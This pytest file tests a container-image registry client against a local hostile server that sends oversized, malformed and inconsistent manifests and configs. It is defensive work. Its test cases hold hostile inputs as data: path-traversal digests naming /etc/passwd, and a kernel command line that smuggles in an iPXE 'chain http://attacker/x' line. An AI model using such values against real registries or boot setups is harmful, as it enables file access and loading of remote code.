"""Hostile registry answers: a local HTTP server that sends what no real registry would (huge,
malformed, foreign or inconsistent manifests and configs). Each pull ends in one line naming what
is wrong, leaves the store as it was, and never reads more than the caps allow."""

from __future__ import annotations

import hashlib
import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from imagebuilder.errors import ImageBuilderError, IntegrityError
from imagebuilder.registry import client as regclient
from imagebuilder.registry.manifest import MAX_MANIFEST_BYTES
from imagebuilder.registry.transfer import Client, RegistryRef, pull
from imagebuilder.store.layout import (
    CONFIG_MEDIA_TYPE,
    INITRD_LAYER_MEDIA_TYPE,
    KERNEL_MEDIA_TYPE,
    MANIFEST_MEDIA_TYPE,
    Store,
)

Body = bytes | Callable[[], Iterator[bytes]]


class Hostile(ThreadingHTTPServer):
    """Answers GET/HEAD from ``routes`` (path -> status, headers, body); counts bytes sent."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.routes: dict[str, tuple[int, dict[str, str], Body]] = {}
        self.sent = 0
        self.gets: list[str] = []

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"

    def blob(self, data: bytes) -> dict[str, Any]:
        digest = "sha256:" + hashlib.sha256(data).hexdigest()
        self.routes[f"/v2/demo/blobs/{digest}"] = (200, {}, data)
        return {"digest": digest, "size": len(data)}

    def manifest(self, body: Body, headers: dict[str, str] | None = None) -> None:
        self.routes["/v2/demo/manifests/1.0"] = (
            200, {"Content-Type": MANIFEST_MEDIA_TYPE, **(headers or {})}, body)


class _Handler(BaseHTTPRequestHandler):
    server: Hostile
    protocol_version = "HTTP/1.0"

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.server.gets.append(self.path)
        route: tuple[int, dict[str, str], Body] = (200, {}, b"{}") if self.path == "/v2/" \
            else self.server.routes.get(self.path, (404, {}, b""))
        status, headers, body = route
        self.send_response(status)
        for k, v in headers.items():
            self.send_header(k, v)
        if isinstance(body, bytes) and "Content-Length" not in headers:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "HEAD":
            return
        try:
            for chunk in ([body] if isinstance(body, bytes) else body()):
                self.wfile.write(chunk)
                self.server.sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass

    do_HEAD = do_GET


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    server = Hostile()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(autouse=True)
def _no_retry_delay(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(regclient, "RETRY_BASE_DELAY", 0.0)
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "docker"))


def _valid(server: Hostile, config: dict[str, Any] | bytes | None = None) -> dict[str, Any]:
    cfg = config if isinstance(config, bytes) else json.dumps(
        config if config is not None else {"name": "demo", "version": "1.0",
                                           "cmdline": "console=ttyS0"}).encode()
    return {
        "schemaVersion": 2, "mediaType": MANIFEST_MEDIA_TYPE,
        "config": {"mediaType": CONFIG_MEDIA_TYPE, **server.blob(cfg)},
        "layers": [{"mediaType": KERNEL_MEDIA_TYPE, **server.blob(b"kernel")},
                   {"mediaType": INITRD_LAYER_MEDIA_TYPE, **server.blob(b"layer")}],
    }


def _pull(server: Hostile, store: Store) -> ImageBuilderError:
    with pytest.raises(ImageBuilderError) as e:
        pull(store, RegistryRef.parse(f"{server.host}/demo:1.0"),
             Client(server.host, insecure=True))
    assert "\n" not in str(e.value)
    assert not store.index_path.exists() or store.images() == []
    blobs = store.blobs_dir
    assert not blobs.exists() or not any(blobs.iterdir())
    return e.value


def test_a_valid_image_pulls(hostile: Hostile, tmp_path: Path) -> None:
    hostile.manifest(json.dumps(_valid(hostile)).encode())
    store = Store(tmp_path / "store")
    result = pull(store, RegistryRef.parse(f"{hostile.host}/demo:1.0"),
                  Client(hostile.host, insecure=True))
    assert result.ref == "demo:1.0" and len(result.blobs_received) == 3


def _huge(total: int) -> Callable[[], Iterator[bytes]]:
    def chunks() -> Iterator[bytes]:
        yield b'{"layers": "'
        for _ in range(total >> 20):
            yield b"x" * (1 << 20)
    return chunks


@pytest.mark.parametrize("with_length", [True, False])
def test_a_400_mb_manifest_is_refused_at_the_cap(hostile: Hostile, tmp_path: Path,
                                                 with_length: bool) -> None:
    headers = {"Content-Length": str(400 << 20)} if with_length else {}
    hostile.manifest(_huge(400 << 20), headers)
    error = _pull(hostile, Store(tmp_path / "store"))
    assert "over the limit" in str(error) or "larger than the limit" in str(error)
    assert error.exit_code == 1
    # the client stopped reading: what the server got out is the cap and socket buffers
    assert hostile.sent < MAX_MANIFEST_BYTES + (32 << 20)


def _with(manifest: dict[str, Any], path: str, value: Any) -> bytes:
    obj: Any = manifest
    *parents, last = path.split(".")
    for key in parents:
        obj = obj[int(key)] if isinstance(obj, list) else obj[key]
    if isinstance(obj, list):
        obj[int(last)] = value
    elif value is _DELETE:
        del obj[last]
    else:
        obj[last] = value
    return json.dumps(manifest).encode()


_DELETE = object()


@pytest.mark.parametrize(("path", "value", "message"), [
    ("layers", [], "has 0 layers; an image has a kernel and 1 to 63 initrd layers"),
    ("layers", "x", "has no list of layers"),
    ("layers", _DELETE, "has no list of layers"),
    ("layers.1", "x", "layer 1 of .* is not a descriptor object"),
    ("layers.0.mediaType", INITRD_LAYER_MEDIA_TYPE, "layer 0 of .* has media type"),
    ("layers.1.digest", "sha256:../../../etc/passwd", "has no sha256 digest"),
    ("layers.1.digest", 7, "has no sha256 digest"),
    ("layers.1.size", -1, "has size -1"),
    ("layers.1.size", "5", "has size 5"),
    ("layers.1.size", 1 << 40, "has size 1099511627776"),
    ("layers.1.annotations", ["x"], "annotations that are not short strings"),
    ("config.size", 10 << 30, "the config descriptor of .* has size 10737418240"),
    ("config", "x", "is not an imagebuilder image"),
    ("schemaVersion", 1, "has schemaVersion 1, not 2"),
    ("mediaType", "application/vnd.docker.distribution.manifest.v2+json",
     "is not an imagebuilder image"),
])
def test_a_malformed_manifest(hostile: Hostile, tmp_path: Path, path: str, value: Any,
                              message: str) -> None:
    hostile.manifest(_with(_valid(hostile), path, value))
    error = _pull(hostile, Store(tmp_path / "store"))
    assert re.search(message, str(error)), str(error)
    assert not [g for g in hostile.gets if "/blobs/" in g]  # nothing fetched


@pytest.mark.parametrize("body", [b"{nope", b"[1, 2]", b"\xff\xfe"])
def test_a_manifest_that_is_not_a_json_object(hostile: Hostile, tmp_path: Path,
                                              body: bytes) -> None:
    hostile.manifest(body)
    assert "JSON" in str(_pull(hostile, Store(tmp_path / "store")))


@pytest.mark.parametrize(("config", "message"), [
    (b"{nope", "the config of .* is not JSON"),
    (b"[]", "the config of .* is not a JSON object"),
    ({"name": "../../x", "version": "1"}, "names the image ../../x:1, not a valid NAME:VERSION"),
    ({"name": "demo", "version": "1\n"}, "not a valid NAME:VERSION"),
    ({"name": "demo", "version": "_promotions"}, "not a valid NAME:VERSION"),
    ({"cmdline": 5}, "has a cmdline that is not str"),
    ({"app": {"port": "80"}}, "app port or health check of the wrong type"),
    ({"app": []}, "has a app that is not dict"),
    ({"disk": {"digest": "md5:x", "size": 1}}, "disk without a sha256 digest"),
    ({"memory": True}, "has a memory that is not int"),
    ({"cmdline": "console=ttyS0\nchain http://attacker/x"},
     r"the config of .*: kernel command line has '\\n' at offset 13"),
    ({"cmdline": "console=ttyS0 ${net0/mac}"}, r"kernel command line has '\$'.*iPXE"),
    ({"cmdline": "x" * 2048}, "kernel command line is 2048 bytes"),
])
def test_a_malformed_config_fetches_no_layer(hostile: Hostile, tmp_path: Path,
                                              config: Any, message: str) -> None:
    manifest = _valid(hostile, config)
    hostile.manifest(json.dumps(manifest).encode())
    error = _pull(hostile, Store(tmp_path / "store"))
    assert re.search(message, str(error)), str(error)
    layer_gets = [g for g in hostile.gets if any(
        layer["digest"] in g for layer in manifest["layers"])]
    assert layer_gets == []


def test_a_huge_error_body_is_not_read(hostile: Hostile, tmp_path: Path) -> None:
    hostile.routes["/v2/demo/manifests/1.0"] = (400, {}, _huge(400 << 20))
    error = _pull(hostile, Store(tmp_path / "store"))
    assert "HTTP 400" in str(error)
    assert hostile.sent < 64 << 20


@pytest.mark.parametrize(("value", "message"), [
    ("x", "the manifest of .* has annotations that are not short strings"),
    (["x"], "the manifest of .* has annotations that are not short strings"),
    ({"a": 1}, "the manifest of .* has annotations that are not short strings"),
])
def test_manifest_annotations_must_be_an_object_of_strings(hostile: Hostile, tmp_path: Path,
                                                           value: Any, message: str) -> None:
    hostile.manifest(_with(_valid(hostile), "annotations", value))
    assert re.search(message, str(_pull(hostile, Store(tmp_path / "store"))))
    assert not [g for g in hostile.gets if "/blobs/" in g]


def _history(server: Hostile, layers: Any) -> None:
    server.routes["/v2/demo/manifests/_promotions"] = (200, {
        "Content-Type": MANIFEST_MEDIA_TYPE}, json.dumps({
            "schemaVersion": 2, "mediaType": MANIFEST_MEDIA_TYPE,
            "config": {"mediaType": "application/vnd.oci.empty.v1+json",
                       **server.blob(b"{}")},
            "layers": layers}).encode())


_PROMOTIONS = "application/vnd.imagebuilder.promotions.v1+json"


@pytest.mark.parametrize(("layers", "message"), [
    ("x", "has no list of one layer"),
    ([], "has no list of one layer"),
    (["x"], "the layer of .* is not a descriptor object"),
    ([{"mediaType": _PROMOTIONS, "digest": "sha256:../../../v2/", "size": 2}],
     "has no sha256 digest"),
    ([{"mediaType": _PROMOTIONS, "digest": "sha256:" + "a" * 64, "size": "big"}], "has size big"),
    ([{"mediaType": _PROMOTIONS, "digest": "sha256:" + "a" * 64, "size": 1 << 40}],
     "has size 1099511627776"),
    ([{"mediaType": _PROMOTIONS, "digest": "sha256:" + "a" * 64, "size": 2,
       "annotations": "x"}], "annotations that are not short strings"),
])
def test_a_malformed_promotion_history_is_one_line(hostile: Hostile, tmp_path: Path,
                                                   layers: Any, message: str) -> None:
    from imagebuilder.registry.promote import promote
    store = Store(tmp_path / "store")
    kernel = store.add_blob_bytes(b"k", KERNEL_MEDIA_TYPE)
    layer = store.add_blob_bytes(b"l", INITRD_LAYER_MEDIA_TYPE)
    store.put_image("demo:1.0", {"name": "demo", "version": "1.0"}, [kernel, layer])
    _history(hostile, layers)
    with pytest.raises(ImageBuilderError) as e:
        promote(store, "demo:1.0", "test", ["test"], client=Client(hostile.host, insecure=True),
                target=RegistryRef.parse(f"{hostile.host}/demo"))
    assert re.search(message, str(e.value)), str(e.value)
    assert "\n" not in str(e.value) and e.value.exit_code == 1
    assert not [g for g in hostile.gets if "/blobs/" in g]  # nothing fetched by that digest


@pytest.mark.parametrize("echoed", ["sha512:" + "a" * 128, "sha256:../../x", "sha256:" + "A" * 64])
def test_a_manifest_digest_header_that_is_no_sha256_digest_is_not_believed(
        hostile: Hostile, echoed: str) -> None:
    body = json.dumps(_valid(hostile)).encode()
    hostile.manifest(body, {"Docker-Content-Digest": echoed})
    client = Client(hostile.host, insecure=True)
    assert client.manifest_digest("demo", "1.0") == "sha256:" + hashlib.sha256(body).hexdigest()


def test_a_blob_stream_is_checked_as_it_is_read_and_needs_no_store(hostile: Hostile) -> None:
    client = Client(hostile.host, insecure=True)
    data = b"layer bytes " * 100_000
    good = hostile.blob(data)
    seen: list[int] = []
    with client.blob_stream("demo", good["digest"], good["size"], seen.append) as stream:
        assert b"".join(stream) == data
    assert sum(seen) == stream.received == len(data)
    wrong = "sha256:" + hashlib.sha256(b"something else").hexdigest()
    hostile.routes[f"/v2/demo/blobs/{wrong}"] = (200, {}, data)
    with client.blob_stream("demo", wrong, len(data), seen.append) as stream, \
            pytest.raises(IntegrityError, match="did not verify"):
        list(stream)
    hostile.routes[f"/v2/demo/blobs/{wrong}"] = (200, {}, _huge(256 << 20))
    with client.blob_stream("demo", wrong, 10, seen.append) as stream, \
            pytest.raises(IntegrityError, match="larger than the 10 bytes its manifest says"):
        list(stream)
    assert stream.received <= 2 << 20  # the read stopped at the first chunk past the size


def test_the_registry_client_neither_imports_nor_writes_the_store() -> None:
    """It speaks HTTP; what it returns the store writes (only the OCI vocabulary is shared)."""
    import ast
    tree = ast.parse(Path(regclient.__file__).read_text())
    modules = {n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module}
    assert {m for m in modules if m.split(".")[0] == "store"} == {"store.oci"}
